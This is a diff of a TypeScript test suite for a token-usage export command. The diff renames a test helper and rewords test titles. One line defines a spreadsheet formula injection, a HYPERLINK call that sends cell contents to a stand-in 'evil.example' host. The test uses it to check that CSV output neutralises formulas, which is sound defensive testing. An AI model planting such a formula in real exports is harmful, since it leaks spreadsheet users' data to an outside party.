@@ -17,13 +17,13 @@ import { join } from 'node:path';
 import type { Database, NewToken, Use } from '@tokenhouse/core';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { at, aUse, NOW, storeToken } from '../../../../test/support/samples.ts';
-import { type CommandHouse, openCommandHouse } from './command-house.ts';
-import { BIN } from './run-command.ts';
+import { BIN } from '../support/run-command.ts';
+import { openTestSite, type TestSite } from '../support/test-site.ts';
 
 const HEADER = 'id,at,tokenId,tokenName,userId,outcome,endpoint,ipAddress,userAgent,client,count';
 
 describe.each(['SQLite', 'PostgreSQL'] as const)('tokenhouse usage export on %s', (name) => {
-  let house: CommandHouse;
+  let site: TestSite;
   let database: Database;
   let token: NewToken;
   let busy: NewToken;
@@ -31,8 +31,8 @@ describe.each(['SQLite', 'PostgreSQL'] as const)('tokenhouse usage export on %s'
   const formula = '=HYPERLINK("http://evil.example/"&A1,"x")';
   beforeAll(async () => {
     folder = await mkdtemp(join(tmpdir(), 'tokenhouse-export-'));
-    house = await openCommandHouse(name);
-    database = await house.openDatabase();
+    site = await openTestSite(name);
+    database = await site.openDatabase();
     await database.maintain(NOW);
     token = await storeToken(database.tokens, { name: 'CI, nightly', userId: 'ada' });
     busy = await storeToken(database.tokens, { userId: 'grace' });
@@ -47,13 +47,13 @@ describe.each(['SQLite', 'PostgreSQL'] as const)('tokenhouse usage export on %s'
   });
   afterAll(async () => {
     await database.close();
-    await house.close();
+    await site.close();
     await rm(folder, { recursive: true, force: true });
   });
 
-  const exported = (...args: string[]) => house.run(['usage', 'export', ...args]);
+  const exported = (...args: string[]) => site.run(['usage', 'export', ...args]);
 
-  test('--format csv: RFC 4180 with times in RFC 3339, and no cell that a spreadsheet would calculate', async () => {
+  test('--format csv: RFC 4180, RFC 3339 timestamps, and no formulas', async () => {
     const { code, stdout, stderr } = await exported('--token', token.id.toUpperCase(), '--format', 'csv');
     expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
     const start = `${token.id},"CI, nightly",ada`;
@@ -68,7 +68,7 @@ describe.each(['SQLite', 'PostgreSQL'] as const)('tokenhouse usage export on %s'
     );
   });
 
-  test('--format ndjson --output: every use once, in a file of the owner’s alone; progress on stderr', async () => {
+  test('--format ndjson --output: every use once, in a private file, with progress on stderr', async () => {
     const output = join(folder, 'uses.ndjson');
     const { code, stdout, stderr } = await exported('--format', 'ndjson', '--output', output, '--progress');
     expect({ code, stdout }).toEqual({ code: 0, stdout: '' });
@@ -120,12 +120,12 @@ describe.each(['SQLite', 'PostgreSQL'] as const)('tokenhouse usage export on %s'
 
   test('--output writes directly to a pipe, and replaces nothing in /dev', async () => {
     const command = `"${process.execPath}" "${BIN}" usage export --token ${token.id} --format csv --output /dev/stdout | cat`;
-    const env = { PATH: process.env['PATH'], ...house.env };
+    const env = { PATH: process.env['PATH'], ...site.env };
     expect(spawnSync('sh', ['-c', command], { env, encoding: 'utf8' }).stdout).toMatch(/^id,at,/);
     expect((await lstat('/dev/stdout')).isSymbolicLink()).toBe(true);
   });
 
-  test('--since, --until and --user narrow; a person or a token that is unknown has none', async () => {
+  test('--since, --until and --user filter; an unknown user or token has no uses', async () => {
     const count = async (...args: string[]) =>
       (await exported('--format', 'ndjson', ...args)).stdout.split('\n').length - 1;
     const [since, until] = [at(10).toISOString(), at(15).toISOString()];
@@ -139,9 +139,9 @@ describe.each(['SQLite', 'PostgreSQL'] as const)('tokenhouse usage export on %s'
     ).toEqual([5, 2, 0, 0]);
   });
 
-  test('a reader that has enough, as head does, ends it quietly', async () => {
+  test('exits quietly when the reader of the pipe ends, as head does', async () => {
     const child = spawn(process.execPath, [BIN, 'usage', 'export', '--format', 'csv'], {
-      env: { PATH: process.env['PATH'], ...house.env },
+      env: { PATH: process.env['PATH'], ...site.env },
       stdio: ['ignore', 'pipe', 'pipe'],
     });
     let stderr = '';
@@ -152,7 +152,7 @@ describe.each(['SQLite', 'PostgreSQL'] as const)('tokenhouse usage export on %s'
     expect([await once(child, 'exit'), stderr]).toEqual([[0, null], '']);
   });
 
-  test('what cannot be done is told in one line', async () => {
+  test('reports a failure in one line', async () => {
     const [time, format, folderless] = await Promise.all([
       exported('--since', 'yesterday', '--format', 'csv'),
       exported('--format', 'xml'),
